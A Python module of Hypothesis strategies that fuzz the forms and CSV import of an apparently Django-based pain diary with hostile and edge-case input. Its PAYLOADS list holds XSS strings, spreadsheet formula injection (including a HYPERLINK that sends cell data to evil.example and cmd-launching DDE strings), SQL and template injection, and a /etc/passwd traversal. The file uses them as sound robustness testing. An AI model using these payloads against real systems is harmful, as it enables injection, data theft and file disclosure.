"""Hypothesis strategies for hostile form and CSV input (used by tests/test_robustness.py).

Most strategies draw *labelled* values: (value, valid) where valid is True when the form must
accept the value, False when it must refuse it, and None when either answer is acceptable (odd
but harmless spellings, random text). A whole submission is valid when every part is True,
invalid when any part is False, and unknown otherwise; the tests then check the all-or-nothing
properties either way.
"""
from __future__ import annotations

from datetime import date, datetime, timedelta

from hypothesis import strategies as st

from diary.catalogues import Activity, Context, Kind, Location, Outcome, RedFlag, Relief, Side, Trigger

SCRIPT = "<script>alert(1)</script>"
PAYLOADS = (
    SCRIPT,
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE diary_episode; --",
    "1' OR '1'='1",
    "1; SELECT * FROM accounts_user",
    "{{ 7*7 }}{% debug %}",
    "%s%s%s%n",
    "../../../../etc/passwd",
    "\u202egnp.exe",  # right-to-left override
    "مرحبا بالعالم",  # Arabic (RTL)
    "שלום",
    "背中の痛み 腰痛",
    "🙂💥🦵🏽‍♀️",
    "Z\u0351\u0352\u0353a\u0300\u0301lgo",
    "\u200b\u200d\ufeff",
    "a\x00b",
    "\x00",
    "line\r\nbreak\rcr\nlf",
    " ",
)

# Any text the test client can encode as UTF-8 (no lone surrogates).
any_text = st.text(alphabet=st.characters(exclude_categories=("Cs",)), max_size=40)
long_text = st.sampled_from(("x", "背", "🙂", "a ")).flatmap(
    lambda unit: st.integers(3990, 4100).map(lambda n: unit * n))
hostile_text = st.one_of(any_text, st.sampled_from(PAYLOADS), long_text)

NUMBERISH = (
    "NaN", "nan", "-NaN", "sNaN", "inf", "-inf", "Infinity", "1e5", "1e999999", "-1e-999999", "0x10", "1_0",
    "1,5", "1.5", "10**30", str(10**30), str(-10**30), "-1", "-0", "+5", " 5 ", "5.0", "05", "٥", "５",
    "", " ", "\x00", "5\x00", "None", "null", "true", "[]", "{}",
)
numberish = st.one_of(
    st.sampled_from(NUMBERISH),
    st.integers(-10**30, 10**30).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(str),
    st.floats(-100, 100).map(lambda f: f"{f:.3f}".replace(".", ",")),
    any_text,
)

ODD_DATES = (
    "0000-00-00", "2026-02-30", "2025-13-01", "2025-00-10", "9999-12-31", "0001-01-01", "0001-01-07",
    "1899-12-31", "1900-01-01", "1900-01-07", "2024-02-29", "2025-02-29", "20250101", "2025/01/01",
    "01.02.2025", "2025-1-1", "+2025-01-01", "2025-01-01T00:00", "",
)
dateish = st.one_of(
    st.sampled_from(ODD_DATES),
    st.dates(min_value=date(1, 1, 1), max_value=date(9999, 12, 31)).map(date.isoformat),
    any_text,
)
# Only what the <isodate> URL converter lets through (\d{4}-\d{2}-\d{2}), mostly real dates.
url_date = st.one_of(
    st.sampled_from(("0000-00-00", "2026-02-30", "9999-12-31", "0001-01-01", "0001-01-07", "1900-01-01")),
    st.dates(min_value=date(1, 1, 1), max_value=date(9999, 12, 31)).map(date.isoformat),
    st.from_regex(r"\A\d{4}-\d{2}-\d{2}\Z", fullmatch=True),
)

ODD_DATETIMES = (
    "0000-00-00T00:00", "2026-02-30T10:00", "9999-12-31T23:59", "0001-01-01T00:00", "1899-12-31T12:00",
    "2025-01-01T25:00", "2025-01-01T10:60", "2025-01-01 10:00", "2025-01-01T10:00:00+14:00",
    "2025-01-01T10:00:00-12:00", "2025-01-01T10:00:00+23:59", "2025-01-01T10:00Z", "2025-01-01T10:00+05:45",
    "2025-03-30T02:30",  # does not exist in Berlin (clocks go forward)
    "2025-10-26T02:30",  # happens twice in Berlin
    "2025-01-01", "10:00", "now", "",
)


def _local_noon(day):
    return datetime.combine(day, datetime.min.time()).replace(hour=12).strftime("%Y-%m-%dT%H:%M")


def valid_started_at(today=None):
    """A local date-time the full form must accept: noon (clear of DST gaps) from 1901 to yesterday."""
    today = today or date.today()
    return st.dates(min_value=date(1901, 1, 1), max_value=today - timedelta(days=1)).map(_local_noon)


def labelled_started_at():
    today = date.today()
    return st.one_of(
        valid_started_at(today).map(lambda v: (v, True)),
        st.sampled_from(("0000-00-00T00:00", "2026-02-30T10:00", "9999-12-31T23:59", "0001-01-01T00:00",
                         "1899-12-31T12:00", "2025-01-01T25:00", "now", "")).map(lambda v: (v, False)),
        st.dates(min_value=today + timedelta(days=2), max_value=date(9999, 12, 30)).map(
            lambda d: (_local_noon(d), False)),  # the future
        st.sampled_from(ODD_DATETIMES).map(lambda v: (v, None)),
        any_text.map(lambda v: (v, None)),
        st.datetimes(min_value=datetime(1, 1, 2), max_value=datetime(9999, 12, 30)).map(
            lambda d: (d.isoformat(), None)),
    )


def labelled_int(low, high, required=False):
    """An integer field's raw value: in range (valid), out of range or garbage (invalid), or odd."""
    valid = st.integers(low, high).map(str)
    if not required:
        valid = st.one_of(valid, st.just(""))
    invalid = st.one_of(
        st.integers(high + 1, 10**30).map(str), st.integers(-10**30, low - 1).map(str),
        st.sampled_from(("NaN", "inf", "-inf", "1,5", "abc", "10**30", "\x00", "5\x00", "1e999999", "[]")),
    )
    if required:
        invalid = st.one_of(invalid, st.just(""))
    return st.one_of(valid.map(lambda v: (v, True)), invalid.map(lambda v: (v, False)),
                     numberish.map(lambda v: (v, None)))


def labelled_decimal(high, places, required=False):
    step = 10 ** places
    valid = st.integers(0, high * step).map(lambda n: f"{n / step:.{places}f}")
    if not required:
        valid = st.one_of(valid, st.just(""))
    invalid = st.one_of(
        st.integers(high * step + 1, 10**6).map(lambda n: f"{n / step:.{places}f}"),
        st.integers(1, 10**6).map(lambda n: f"-{n / step:.{places}f}"),
        st.just("1." + "1" * (places + 1)),
        st.sampled_from(("NaN", "inf", "-inf", "sNaN", "1,5", "abc", "\x00", "10**30", str(10**30))),
    )
    return st.one_of(valid.map(lambda v: (v, True)), invalid.map(lambda v: (v, False)),
                     numberish.map(lambda v: (v, None)))


def labelled_choice(choices, *, blank_ok=True):
    values = list(choices.values) + ([""] if blank_ok else [])
    return st.one_of(
        st.sampled_from(values).map(lambda v: (v, True)),
        st.sampled_from(("nope", "SPASM", "Spasm ", "other2", "__all__", "0", "\x00")).map(lambda v: (v, False)),
        hostile_text.filter(lambda v: v not in values).map(lambda v: (v, False)),
    )


def labelled_slugs(choices, max_size=6):
    """A list for a multiple-choice field: catalogue slugs (with duplicates) or some unknown ones."""
    slugs = list(choices.values)
    valid = st.lists(st.sampled_from(slugs), max_size=max_size)
    invalid = st.lists(
        st.one_of(st.sampled_from(slugs), hostile_text.filter(lambda v: v not in slugs)), min_size=1, max_size=max_size,
    ).filter(lambda values: any(v not in slugs for v in values))
    return st.one_of(valid.map(lambda v: (v, True)), invalid.map(lambda v: (v, False)))


def labelled_notes(max_length=4000):
    """Django's CharField strips, refuses NUL characters and counts the stripped length."""
    def label(value):
        return "\x00" not in value and len(value.strip()) <= max_length
    return st.one_of(hostile_text, st.just(SCRIPT)).map(lambda v: (v, label(v)))


def verdict(labels):
    labels = list(labels)
    if any(label is False for label in labels):
        return False
    if all(label is True for label in labels):
        return True
    return None


# --- catalogues, for the tests -------------------------------------------------------------------

CATALOGUES = {
    "locations": Location, "triggers": Trigger, "red_flags": RedFlag, "activities": Activity,
    "kind": Kind, "side": Side, "context": Context, "relief": Relief, "outcome": Outcome,
}
RELIEF_VALUES = ("", "tried", *Outcome.values)


def labelled_relief():
    return st.one_of(
        st.sampled_from(RELIEF_VALUES).map(lambda v: (v, True)),
        st.sampled_from(("yes", "Helped", "no", "\x00", SCRIPT)).map(lambda v: (v, False)),
    )
